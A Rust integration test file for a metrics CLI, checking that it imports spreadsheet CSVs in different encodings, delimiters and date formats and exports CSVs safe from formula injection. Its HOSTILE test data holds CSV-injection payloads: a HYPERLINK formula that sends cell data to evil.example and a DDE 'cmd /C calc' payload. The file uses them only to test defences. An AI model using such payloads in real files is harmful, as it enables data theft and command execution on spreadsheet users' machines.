//! `import-readings` and `export-readings` with files as spreadsheet
//! programs outside the US and UK write and read them, through the real
//! binary: semicolons and decimal commas, Windows-1252 and UTF-16 text,
//! day-first dates, and exports that open right (a byte-order mark, no
//! cell that runs as a formula) and read back exactly.

#![allow(clippy::unwrap_used)] // helpers outside #[test] functions panic as test failures

mod common;

use std::path::Path;

use common::Sandbox;
use rhythm::domain::Reading;

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/spreadsheets");

/// Every reading of `team` as `measure week value note`, in store order.
fn readings(t: &Sandbox, team: &str) -> Vec<String> {
    let store = t.store();
    let team = t.team(team);
    let names: Vec<(i64, String)> = store
        .measures(team.id, true)
        .unwrap()
        .into_iter()
        .map(|m| (m.id.0, m.name))
        .collect();
    let all: Vec<Reading> = store
        .readings(
            team.id,
            "1900-W01".parse().unwrap(),
            "2999-W01".parse().unwrap(),
        )
        .unwrap();
    all.iter()
        .map(|r| {
            let name = &names
                .iter()
                .find(|(id, _)| *id == r.measure_id.0)
                .unwrap()
                .1;
            match &r.note {
                Some(note) => format!("{name} {} {} {note:?}", r.week, r.value),
                None => format!("{name} {} {}", r.week, r.value),
            }
        })
        .collect()
}

fn write(t: &Sandbox, name: &str, bytes: &[u8]) {
    std::fs::write(t.path(name), bytes).unwrap();
}

/// Growth, with a measure whose name has accents.
fn growth_fr() -> Sandbox {
    let t = Sandbox::growth();
    t.ok("measure add 'Qualité du service' --owner Zoé --unit % --target 90");
    t
}

#[test]
fn a_windows_1252_file_with_semicolons_and_decimal_commas_imports() {
    let t = growth_fr();
    // As Excel in France saves "CSV (separated by semicolons)": Windows-1252,
    // semicolons, decimal commas, points between thousands.
    write(
        &t,
        "fr.csv",
        b"Semaine;Net revenue retention;Qualit\xE9 du service\r\n\
          2026-W46;1.104,5;87,5\r\n\
          2026-W47;104,25;\"88\"\r\n",
    );
    let before = t.digest();
    let run = t.run("import-readings fr.csv");
    assert_eq!((run.code, run.stdout.as_str()), (1, ""), "{run:?}");
    assert_eq!(
        run.stderr,
        "line 1, column 3: 'Qualit\\xE9 du service' is not UTF-8 text: pass --encoding windows-1252 if Excel on Windows saved the file, or save it as UTF-8 (\"CSV UTF-8\" in spreadsheet programs)\n\
         error: fr.csv refused: 1 problem; nothing was imported\n"
    );
    assert_eq!(t.digest(), before, "nothing written");

    assert_eq!(
        t.ok("import-readings fr.csv --encoding windows-1252"),
        "Imported fr.csv into Growth: 4 added, 0 changed, 0 unchanged\n"
    );
    assert_eq!(
        readings(&t, "Growth"),
        [
            "Net revenue retention 2026-W46 1104.5",
            "Net revenue retention 2026-W47 104.25",
            "Qualité du service 2026-W46 87.5",
            "Qualité du service 2026-W47 88",
        ]
    );

    // The long form with a note, its separator named by Excel's first line.
    write(
        &t,
        "notes.csv",
        b"sep=;\r\nmeasure;week;value;note\r\nqualit\xE9 du service;2026-W48;89,75;r\xE9sum\xE9 \x80 ok\r\n",
    );
    assert_eq!(
        t.ok("import-readings notes.csv --encoding cp1252"),
        "Imported notes.csv into Growth: 1 added, 0 changed, 0 unchanged\n"
    );
    assert_eq!(
        readings(&t, "Growth").last().unwrap(),
        "Qualité du service 2026-W48 89.75 \"résumé € ok\""
    );
}

#[test]
fn decimals_given_on_the_command_line_win() {
    let t = Sandbox::growth();
    write(
        &t,
        "points.csv",
        b"week;Net revenue retention\n2026-W47;1.234\n",
    );
    let before = t.digest();
    let run = t.run("import-readings points.csv");
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stderr
            .starts_with("line 2, column 2: '1.234' is ambiguous"),
        "{run:?}"
    );
    assert_eq!(t.digest(), before);
    t.ok("import-readings points.csv --decimal .");
    assert_eq!(
        readings(&t, "Growth"),
        ["Net revenue retention 2026-W47 1.234"]
    );
    t.ok("import-readings points.csv --decimal , --delimiter ';'");
    assert_eq!(
        readings(&t, "Growth"),
        ["Net revenue retention 2026-W47 1234"]
    );
    // A comma-separated file with quoted decimal commas.
    write(
        &t,
        "quoted.csv",
        b"week,Net revenue retention\n2026-W48,\"1.005,5\"\n",
    );
    t.ok("import-readings quoted.csv --decimal ,");
    assert_eq!(
        readings(&t, "Growth").last().unwrap(),
        "Net revenue retention 2026-W48 1005.5"
    );
}

#[test]
fn utf16_and_other_spreadsheet_files_import() {
    // Each was refused before: a UTF-16LE file with its byte-order mark,
    // semicolons with decimal commas, an Excel `sep=;` line, and tabs.
    for (name, args, want) in [
        ("utf16.csv", "", "Net revenue retention 2026-W47 104"),
        ("semicolons.csv", "", "Net revenue retention 2026-W48 104.5"),
        (
            "excel-sep-line.csv",
            "",
            "Net revenue retention 2026-W48 104.5",
        ),
        (
            "tabs.csv",
            " --delimiter tab",
            "Net revenue retention 2026-W48 104.5",
        ),
    ] {
        let t = Sandbox::growth();
        std::fs::copy(Path::new(FIXTURES).join(name), t.path(name)).unwrap();
        let said = t.ok(&format!("import-readings {name}{args}"));
        assert!(
            said.starts_with(&format!("Imported {name} into Growth")),
            "{said}"
        );
        assert_eq!(readings(&t, "Growth")[0], want, "{name}");
    }

    // UTF-16BE, and UTF-16LE without its mark when told.
    let text = "week\tQualité du service\r\n2026-W48\t91,5\r\n";
    let t = growth_fr();
    let be: Vec<u8> = "\u{feff}"
        .encode_utf16()
        .chain(text.encode_utf16())
        .flat_map(u16::to_be_bytes)
        .collect();
    write(&t, "be.txt", &be);
    t.ok("import-readings be.txt --decimal ,");
    let le: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    write(&t, "le.txt", &le);
    let run = t.run("import-readings le.txt --decimal ,");
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("--encoding utf-16le"), "{run:?}");
    assert_eq!(
        t.ok("import-readings le.txt --decimal , --encoding utf-16le"),
        "Nothing to import into Growth: all 1 reading in le.txt are already recorded\n"
    );
    assert_eq!(readings(&t, "Growth"), ["Qualité du service 2026-W48 91.5"]);
}

#[test]
fn day_first_dates_import_with_a_date_format() {
    let t = Sandbox::growth();
    write(
        &t,
        "dmy.csv",
        b"date,Net revenue retention\n25/11/2026,104.5\n2/12/2026 00:00:00,105\n",
    );
    let before = t.digest();
    let run = t.run("import-readings dmy.csv");
    assert_eq!(run.code, 1);
    assert!(
        run.stderr
            .starts_with("line 2, column 1: '25/11/2026' is a date with the day and the month"),
        "{run:?}"
    );
    assert_eq!(t.digest(), before);
    // Month first, 25 is no month: refused at the cell.
    let run = t.run("import-readings dmy.csv --date-format MM/DD/YYYY");
    assert_eq!(
        run.stderr.lines().next().unwrap(),
        "line 2, column 1: '25/11/2026' is not a week: no such day in the calendar (use 2026-W48 or a date such as 2026-11-25)"
    );
    assert_eq!(t.digest(), before);
    assert_eq!(
        t.ok("import-readings dmy.csv --date-format DD/MM/YYYY"),
        "Imported dmy.csv into Growth: 2 added, 0 changed, 0 unchanged\n"
    );
    assert_eq!(
        readings(&t, "Growth"),
        [
            "Net revenue retention 2026-W48 104.5",
            "Net revenue retention 2026-W49 105",
        ]
    );
    write(
        &t,
        "de.csv",
        b"measure;week;value\nNet revenue retention;30.11.2026;106,5\n",
    );
    t.ok("import-readings de.csv --date-format DD.MM.YYYY");
    assert_eq!(
        readings(&t, "Growth")[1],
        "Net revenue retention 2026-W49 106.5"
    );
}

#[test]
fn bad_options_are_one_line_quoting_the_value() {
    let t = Sandbox::growth();
    write(&t, "a.csv", b"week,Net revenue retention\n2026-W48,1\n");
    for (args, want) in [
        (
            "--delimiter ::",
            "error: invalid value '::' for '--delimiter <CHAR>': '::' is not a separator rhythm reads: use ',', ';', 'tab' or '|'",
        ),
        (
            "--decimal x",
            "error: invalid value 'x' for '--decimal <MARK>': 'x' is not a decimal mark: use '.' or ','",
        ),
        (
            "--encoding klingon",
            "error: invalid value 'klingon' for '--encoding <NAME>': 'klingon' is not a text encoding rhythm reads: use utf-8, windows-1252, utf-16le or utf-16be",
        ),
    ] {
        assert_eq!(t.fails(2, &format!("import-readings a.csv {args}")), want);
    }
    let said = t.fails(2, "import-readings a.csv --date-format YY/MM/DD");
    assert!(
        said.contains("'YY/MM/DD' is not a date format: use one of DD/MM/YYYY"),
        "{said}"
    );
    assert_eq!(readings(&t, "Growth"), Vec::<String>::new());
}

const HOSTILE: [(&str, &str, &str); 4] = [
    (
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
        "-5",
        "+1 from the call",
    ),
    ("-5 churn", "-0.25", "=cmd|' /C calc'!A0"),
    ("'quoted", "3", "'=not a formula"),
    ("@risk", "12", "@owner said so"),
];

/// A team whose measure names a spreadsheet would run as formulas; with
/// `record`, negative values and notes that start like formulas too.
fn hostile(record: bool) -> Sandbox {
    let t = Sandbox::new();
    t.ok("init --team Ops");
    for (name, value, note) in HOSTILE {
        // After `--`, a name that starts with `-` is not read as a flag.
        let add = [
            "measure", "add", "--owner", "Ana", "--target", "1", "--", name,
        ];
        t.exec(&[], &[&["--db", "team.db"][..], &add].concat()).ok();
        if record {
            let note = format!("--note={note}");
            let rec = ["record", "--week", "2026-W48", &note, "--", name, value];
            t.exec(&[], &[&["--db", "team.db"][..], &rec].concat()).ok();
        }
    }
    t
}

#[test]
fn exports_start_with_a_bom_guard_formulas_and_read_back_exactly() {
    let a = hostile(true);
    for form in ["wide", "long"] {
        a.ok(&format!("export-readings --form {form} --out {form}.csv"));
        let bytes = std::fs::read(a.path(&format!("{form}.csv"))).unwrap();
        assert!(
            bytes.starts_with(b"\xEF\xBB\xBFweek,") || bytes.starts_with(b"\xEF\xBB\xBFmeasure,")
        );
        let text = String::from_utf8(bytes).unwrap();
        // No cell starts with a formula's first character.
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        for record in reader.records() {
            for (i, cell) in record.unwrap().iter().enumerate() {
                let is_value = if form == "wide" { i > 0 } else { i == 2 };
                if !is_value {
                    assert!(!cell.starts_with(['=', '+', '-', '@']), "{form}: {cell:?}");
                }
            }
        }
        assert!(text.contains("'=HYPERLINK("), "{text}");
        // Values stay numbers a spreadsheet can sum.
        assert!(text.contains(",-5") && text.contains(",-0.25"), "{text}");
    }
    let text = std::fs::read_to_string(a.path("long.csv")).unwrap();
    assert_eq!(
        text,
        "\u{feff}measure,week,value,note\n\
         \"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\",2026-W48,-5,'+1 from the call\n\
         '-5 churn,2026-W48,-0.25,'=cmd|' /C calc'!A0\n\
         ''quoted,2026-W48,3,''=not a formula\n\
         '@risk,2026-W48,12,'@owner said so\n"
    );

    // Into a second database with the same measures: the same readings,
    // notes and all, and the same export, byte for byte.
    let b = hostile(false);
    assert_eq!(readings(&b, "Ops"), Vec::<String>::new());
    std::fs::copy(a.path("long.csv"), b.path("long.csv")).unwrap();
    assert_eq!(
        b.ok("import-readings long.csv"),
        "Imported long.csv into Ops: 4 added, 0 changed, 0 unchanged\n"
    );
    assert_eq!(readings(&b, "Ops"), readings(&a, "Ops"));
    assert!(readings(&a, "Ops").contains(&"'quoted 2026-W48 3 \"'=not a formula\"".to_string()));
    b.ok("export-readings --form long --out back.csv");
    assert_eq!(std::fs::read_to_string(b.path("back.csv")).unwrap(), text);
    // The wide form carries the values back onto the same measures.
    std::fs::copy(a.path("wide.csv"), b.path("wide.csv")).unwrap();
    assert_eq!(
        b.ok("import-readings wide.csv"),
        "Nothing to import into Ops: all 4 readings in wide.csv are already recorded\n"
    );
}
